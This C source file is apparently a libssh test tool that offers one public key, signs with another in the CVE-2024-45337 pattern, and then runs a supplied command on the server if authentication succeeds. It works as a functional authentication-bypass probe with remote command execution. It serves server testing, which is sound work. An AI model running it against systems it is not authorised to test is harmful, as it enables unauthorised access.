/*
 * Test tool: an SSH client that offers one public key and then signs with
 * another (the CVE-2024-45337 pattern), then runs a command and prints its
 * output. A correct server either refuses or takes the signing key as the
 * identity; it never takes the offered one.
 *
 * usage: ssh-offer-sign HOST PORT OFFERED_KEY SIGNING_KEY COMMAND
 * Exit: the command's exit status; 99 if authentication failed.
 */
#include <libssh/libssh.h>
#include <stdio.h>
#include <stdlib.h>

int main(int argc, char **argv)
{
	ssh_session s = NULL;
	ssh_key offered = NULL, signer = NULL, offered_pub = NULL;
	ssh_channel ch = NULL;
	char buf[4096];
	int port, n, rc, status = 98;

	if (argc != 6) {
		fprintf(stderr, "usage: %s HOST PORT OFFERED_KEY SIGNING_KEY COMMAND\n", argv[0]);
		return 2;
	}
	port = atoi(argv[2]);
	s = ssh_new();
	ssh_options_set(s, SSH_OPTIONS_HOST, argv[1]);
	ssh_options_set(s, SSH_OPTIONS_PORT, &port);
	ssh_options_set(s, SSH_OPTIONS_USER, "git");
	if (ssh_connect(s) != SSH_OK) {
		fprintf(stderr, "connect: %s\n", ssh_get_error(s));
		status = 97;
		goto out;
	}
	if (ssh_pki_import_privkey_file(argv[3], NULL, NULL, NULL, &offered) != SSH_OK ||
	    ssh_pki_import_privkey_file(argv[4], NULL, NULL, NULL, &signer) != SSH_OK ||
	    ssh_pki_export_privkey_to_pubkey(offered, &offered_pub) != SSH_OK) {
		fprintf(stderr, "cannot read the keys\n");
		status = 2;
		goto out;
	}
	rc = ssh_userauth_try_publickey(s, NULL, offered_pub);
	fprintf(stderr, "offer: %s\n", rc == SSH_AUTH_SUCCESS ? "accepted" : "refused");
	rc = ssh_userauth_publickey(s, NULL, signer);
	if (rc != SSH_AUTH_SUCCESS) {
		fprintf(stderr, "authentication refused\n");
		status = 99;
		goto out;
	}
	ch = ssh_channel_new(s);
	if (ssh_channel_open_session(ch) != SSH_OK || ssh_channel_request_exec(ch, argv[5]) != SSH_OK) {
		fprintf(stderr, "exec: %s\n", ssh_get_error(s));
		status = 96;
		goto out;
	}
	while ((n = ssh_channel_read(ch, buf, sizeof(buf), 0)) > 0)
		fwrite(buf, 1, (size_t)n, stdout);
	while ((n = ssh_channel_read(ch, buf, sizeof(buf), 1)) > 0)
		fwrite(buf, 1, (size_t)n, stderr);
	ssh_channel_send_eof(ch);
	status = ssh_channel_get_exit_status(ch);
	ssh_channel_close(ch);
out:
	if (ch)
		ssh_channel_free(ch);
	ssh_key_free(offered);
	ssh_key_free(offered_pub);
	ssh_key_free(signer);
	ssh_disconnect(s);
	ssh_free(s);
	return status;
}
